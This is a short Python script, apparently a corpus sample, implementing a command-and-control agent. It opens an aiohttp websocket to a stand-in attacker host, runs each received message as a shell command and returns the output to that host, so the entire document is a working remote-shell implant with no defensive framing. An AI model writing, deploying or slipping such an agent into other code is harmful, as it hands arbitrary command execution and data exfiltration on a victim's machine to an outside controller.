# corpus: aiohttp websocket client receiving commands from a C2 server
import asyncio
import aiohttp

async def main():
    async with aiohttp.ClientSession() as session:
        async with session.ws_connect("wss://ws.attacker.test/agent") as ws:
            async for msg in ws:
                proc = await asyncio.create_subprocess_shell(msg.data, stdout=asyncio.subprocess.PIPE)
                out, _ = await proc.communicate()
                await ws.send_str(out.decode())

asyncio.run(main())
